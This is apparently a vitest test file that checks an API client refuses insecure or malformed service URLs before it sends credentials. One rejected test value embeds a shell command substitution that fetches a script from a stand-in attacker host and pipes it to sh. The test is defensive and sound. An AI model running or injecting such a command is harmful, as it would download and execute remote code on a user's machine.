/**
 * The API client is the one place a password or session leaves main, so it refuses
 * a service URL that would carry them in clear text to another computer, whoever
 * the caller is (a restored session, a future caller that forgot to check).
 */
import { describe, expect, it } from 'vitest';
import { ApiClient } from '../../src/main/services/api-client.js';
import { SERVICE_URL_MESSAGES } from '../../src/shared/service-url.js';

function recordingClient() {
  const requested: string[] = [];
  const api = new ApiClient({
    fetch: async (input) => {
      requested.push(String(input));
      throw new TypeError('fetch failed');
    },
  });
  return { api, requested };
}

describe('ApiClient refuses unsafe service URLs before sending anything', () => {
  it.each([
    ['http://tokens.example.test'],
    ['http://203.0.113.5:4780'],
    ["https://evil.example/$(curl$IFS'evil.example/x'|sh)"],
    ['http://127.0.0.1:4780/a b'],
  ])('%s', async (baseUrl) => {
    const { api, requested } = recordingClient();
    await expect(
      api.signIn(baseUrl, { email: 'a@example.test', password: 'a password' }),
    ).rejects.toMatchObject({ code: 'insecure_url' });
    await expect(api.me(baseUrl, 'ses_x')).rejects.toMatchObject({ code: 'insecure_url' });
    await expect(api.signOut(baseUrl, 'ses_x', 's1')).rejects.toMatchObject({
      code: 'insecure_url',
    });
    expect(requested).toEqual([]);
  });

  it('says why, in the words the sign-in form uses', async () => {
    const { api } = recordingClient();
    await expect(api.me('http://tokens.example.test', 'ses_x')).rejects.toMatchObject({
      message: SERVICE_URL_MESSAGES.httpsNeeded,
    });
  });

  it('sends to loopback over http and to anything else over https', async () => {
    const { api, requested } = recordingClient();
    for (const baseUrl of ['http://127.0.0.1:4780', 'https://tokens.example.test']) {
      await expect(api.me(baseUrl, 'ses_x')).rejects.toMatchObject({ code: 'unreachable' });
    }
    expect(requested).toEqual([
      'http://127.0.0.1:4780/v1/users/me',
      'https://tokens.example.test/v1/users/me',
    ]);
  });
});
